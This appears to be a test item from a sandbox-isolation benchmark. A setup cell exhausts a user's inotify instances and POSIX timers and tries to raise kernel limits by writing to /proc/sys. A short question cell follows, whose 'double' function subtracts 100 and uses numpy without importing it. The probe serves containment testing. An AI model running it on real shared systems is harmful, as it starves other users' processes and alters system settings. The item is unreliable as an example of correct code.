# ---
# attack: 'Uses up the watchers, signals and timers that all processes of a user have together.'
# class: parts of the kernel around the walls
# sandboxes: [namespaces]
# ---
# %% before="q1"
import ctypes
import os

libc = ctypes.CDLL(None)
libc.timer_create.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
made = {"inotify": sum(libc.inotify_init() >= 0 for _ in range(900))}
timer = ctypes.c_void_p()
made["timers"] = sum(libc.timer_create(1, None, ctypes.byref(timer)) == 0 for _ in range(50_000))
for path in ("/proc/sys/user/max_inotify_instances", "/proc/sys/user/max_user_namespaces"):
    try:
        with open(path, "w") as file:
            file.write("100000")
        made[path] = "raised"
    except OSError:
        continue
if made["timers"] >= 50_000 or len(made) > 2:
    raise RuntimeError(f"HOLE {made}")

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
